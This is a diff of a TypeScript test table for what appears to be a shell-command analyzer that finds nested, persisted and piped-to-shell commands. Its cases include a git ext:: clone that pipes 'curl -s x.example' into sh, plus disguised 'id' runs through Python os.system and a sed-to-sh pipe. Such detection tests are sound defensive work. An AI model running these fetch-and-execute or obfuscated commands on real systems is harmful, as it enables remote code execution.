@@ -166,7 +166,10 @@ const CASES: Array<[string, string[]]> = [
   // git's ext:: address is a command line; a gh shell alias and a husky hook are command lines kept for later
   ["git clone 'ext::sh -c curl% -s% x.example% |% sh'", ['git clone ext::sh -c curl% -s% x.example% |% sh', 'exec-arg:sh -c curl -s x.example | sh', 'shell-c:curl -s x.example', 'shell-c:sh']],
   ["gh alias set --shell co 'id; gh pr checkout \"$1\"'", ['gh alias set --shell co id; gh pr checkout "$1"', 'persisted:id', 'persisted:gh pr checkout ']],
-  ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'persisted:make lint']],
+  ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'exec-arg:husky add .husky/pre-push make lint', 'persisted:make lint']],
+  // the package's own command runs (`npx -y localtunnel@2 --port 3000` is localtunnel's); a scoped one is left alone
+  ['npx -y localtunnel@2 --port 3000', ['npx -y localtunnel@2 --port 3000', 'exec-arg:localtunnel --port 3000']],
+  ['npx @scope/tool --port 3000', ['npx @scope/tool --port 3000']],
   // a file named by a variable the line cannot know is read back by the same name; vim's :lua is Lua
   ['TF=$(mktemp); echo "import os; os.system(\'id\')" > $TF; python3 $TF', ['substitution:mktemp', "echo import os; os.system('id')", 'python3 $TF', 'interpreter:id']],
   ["echo 'id#-a' | sed 's/#/ /g' | sh", ["echo id#-a", "sed s/#/ /g", "sh", "piped-to-shell:id -a"]],
